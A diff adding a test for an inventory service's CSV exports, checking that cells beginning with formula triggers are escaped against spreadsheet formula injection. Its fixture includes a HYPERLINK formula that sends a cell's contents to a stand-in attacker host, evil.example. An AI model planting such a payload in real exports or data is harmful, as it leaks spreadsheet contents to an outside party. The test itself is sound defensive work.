@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import csv
 import io
+from decimal import Decimal
 
 from storekeeper.services.exports import ITEM_COLUMNS, MOVEMENT_COLUMNS, STOCK_COLUMNS
 
@@ -93,3 +94,47 @@ def test_scopes_and_workspaces_hold_for_csv(workspace, other_workspace):
     assert len(table(items_only.get("/v1/items", headers=CSV))) == 2
     assert table(other_workspace.api.get("/v1/items", headers=CSV)) == []
     assert other_workspace.api.get("/v1/items/LAMP-0001/movements", headers=CSV).status_code == 404
+
+
+# --- Formula injection (issue 19, item 5) ----------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")'
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def assert_no_cell_starts_a_formula(rows: list[dict[str, str]]) -> None:
+    """Only a number may start with a trigger (`-2`): every text cell is escaped."""
+    for row in rows:
+        for column, value in row.items():
+            if value.startswith(TRIGGERS):
+                assert Decimal(value) < 0, (column, value)
+
+
+def test_text_cells_that_would_start_a_formula_are_escaped_and_numbers_are_not(api):
+    ok(api.post("/v1/locations", json={"name": "@Back room"}))
+    ok(api.post("/v1/items", json={"sku": "-LAMP", "name": FORMULA, "supplier": "+44 20 7946 0000",
+                                   "brand": "'=quoted", "description": "'Til dawn", "tags": ["-sale", "lamps"],
+                                   "price": "9.90"}))
+    ok(api.post("/v1/stock/adjustments", json={"item": "-LAMP", "location": "@Back room", "reason": "receipt",
+                                               "delta": 5, "unit_cost": "2", "note": "=1+1"}))
+    ok(api.post("/v1/stock/adjustments", json={"item": "-LAMP", "location": "@Back room", "reason": "sale",
+                                               "delta": -2, "note": "@SUM(A1)"}))
+
+    [item] = table(api.get("/v1/items", headers=CSV))
+    assert (item["sku"], item["name"], item["supplier"]) == ("'-LAMP", "'" + FORMULA, "'+44 20 7946 0000")
+    assert (item["brand"], item["description"], item["tags"]) == ("''=quoted", "'Til dawn", "'-sale, lamps")
+    assert (item["on_hand"], item["price"], item["average_cost"]) == ("3", "9.90", "2.00")
+    [level] = table(api.get("/v1/stock", headers=CSV))
+    assert (level["sku"], level["location"], level["on_hand"]) == ("'-LAMP", "'@Back room", "3")
+    for path in ("/v1/stock/movements?order=asc", "/v1/items/-LAMP/movements?order=asc"):
+        moved = table(api.get(path, headers=CSV))
+        assert [(m["sku"], m["location"], m["delta"], m["note"]) for m in moved] == [
+            ("'-LAMP", "'@Back room", "5", "'=1+1"), ("'-LAMP", "'@Back room", "-2", "'@SUM(A1)")]
+        assert_no_cell_starts_a_formula(moved)
+    snap = ok(api.post("/v1/snapshots", json={}))
+    r = api.get(f"/v1/snapshots/{snap['id']}", headers=CSV)
+    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
+    [level] = list(csv.DictReader(io.StringIO(r.text)))
+    assert (level["sku"], level["location_name"], level["on_hand"]) == ("'-LAMP", "'@Back room", "3")
+    for rows in ([item], [level]):
+        assert_no_cell_starts_a_formula(rows)
